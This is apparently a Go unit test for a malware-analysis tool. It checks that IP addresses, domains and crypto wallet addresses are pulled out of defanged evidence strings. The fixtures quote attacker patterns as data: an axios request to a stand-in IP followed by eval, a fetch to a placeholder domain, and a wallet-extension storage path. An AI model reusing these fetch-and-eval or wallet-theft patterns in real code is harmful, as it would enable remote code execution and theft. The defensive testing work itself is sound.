package lure

import (
	"slices"
	"testing"
)

// Indicators come refanged out of defanged evidence; words and file
// names are not taken for addresses.
func TestExtractIndicators(t *testing.T) {
	r := &Report{Findings: []Finding{
		{Evidence: defang("axios.get('http://203.0.113.47:1224/client/3/726') then eval")},
		{Evidence: defang("fetch('https://api.example-telemetry.invalid/v1/check')")},
		{Evidence: "sends to 0x52908400098527886E0F7030069857D2E4169EE7 and TXk3qL8bVQ3eZr8Gd9z2xV4nC5pJ6hR7sT in next.config.js"},
		{Evidence: "Local Extension Settings/nkbihfbeogaeaoehlefnkodbefgpgknn"},
	}}
	got := ExtractIndicators(r)
	if !slices.Equal(got.IPs, []string{"203.0.113.47"}) {
		t.Errorf("IPs %v", got.IPs)
	}
	if !slices.Equal(got.Domains, []string{"api.example-telemetry.invalid"}) {
		t.Errorf("domains %v", got.Domains)
	}
	if !slices.Contains(got.Wallets, "0x52908400098527886E0F7030069857D2E4169EE7") || !slices.Contains(got.Wallets, "TXk3qL8bVQ3eZr8Gd9z2xV4nC5pJ6hR7sT") || len(got.Wallets) != 2 {
		t.Errorf("wallets %v", got.Wallets)
	}
}
